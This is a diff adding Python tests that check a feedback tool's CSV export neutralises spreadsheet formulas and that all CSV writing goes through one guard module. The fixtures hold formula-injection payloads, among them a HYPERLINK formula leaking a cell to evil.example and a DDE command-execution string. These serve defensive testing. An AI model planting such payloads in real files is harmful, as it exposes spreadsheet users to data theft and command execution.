@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import ast
 import csv
 import io
+from pathlib import Path
 
 from click.testing import CliRunner
 
@@ -68,3 +70,69 @@ def test_export_leaves_out_requests_with_too_few_answers(database, monkeypatch, 
     assert "review,request,kind,question_set,respondent" in result.output
     missing = CliRunner().invoke(cli, ["feedback", "export", "999"])
     assert missing.exit_code != 0 and "999" in missing.output
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tTAB=1",
+]
+
+
+def test_export_turns_every_formula_into_plain_text(database, monkeypatch, tmp_path) -> None:
+    """What a stakeholder typed (anonymous or not), or a name starting with "=", opens in Excel as text."""
+    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("DATABASE_URL", database.engine.url.render_as_string(hide_password=False))
+    monkeypatch.setenv("LOG_LEVEL", "WARNING")
+    world = FeedbackWorld(database)
+    mallory = world.person("=1+1 Mallory", slack="U0MALLORY1")
+    people = [world.stakeholders[0], mallory, *world.stakeholders[1:3]]
+    round_ = world.ask(people=people).round
+    assert round_ is not None
+    for index, person in enumerate(people):
+        form = world.feedback.answers.form(ref(person), f"round:{round_.id}")
+        world.feedback.answers.submit(
+            ref(person),
+            round_.id,
+            form.token,
+            answer(worked=HOSTILE_CELLS[index], change=HOSTILE_CELLS[index + 1], anonymous=index == 0),
+        )
+    target = tmp_path / "feedback.csv"
+    result = CliRunner().invoke(cli, ["feedback", "export", str(world.review_id), str(target)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
+    cells = [value for row in rows for value in row.values()]
+    formula_like = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert formula_like == []
+    written = {row["what_worked"] for row in rows} | {row["what_should_change"] for row in rows}
+    assert "'=1+1 Mallory" in {row["respondent"] for row in rows}
+    assert "'" + HOSTILE_CELLS[0] in written and "'@SUM(1+1)" in written and "'+cmd|' /C calc'!A0" in written
+    # Ratings stay numbers.
+    assert {row["outcomes"] for row in rows} == {"4"}
+
+
+def test_every_csv_the_product_writes_goes_through_the_guard() -> None:
+    """No module writes CSV except through workflows.csv_safety, so a new export cannot forget the guard."""
+    root = Path(__file__).resolve().parents[2]
+    offenders = []
+    for package in ("bot", "handlers", "workflows", "storage", "knowledge"):
+        for path in (root / package).rglob("*.py"):
+            if path.name == "csv_safety.py":
+                continue
+            tree = ast.parse(path.read_text(encoding="utf-8"))
+            for node in ast.walk(tree):
+                writes = (
+                    isinstance(node, ast.Attribute)
+                    and node.attr in ("writer", "DictWriter")
+                    and isinstance(node.value, ast.Name)
+                    and node.value.id == "csv"
+                ) or (
+                    isinstance(node, ast.ImportFrom)
+                    and node.module == "csv"
+                    and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
+                )
+                if writes:
+                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
+    assert offenders == []
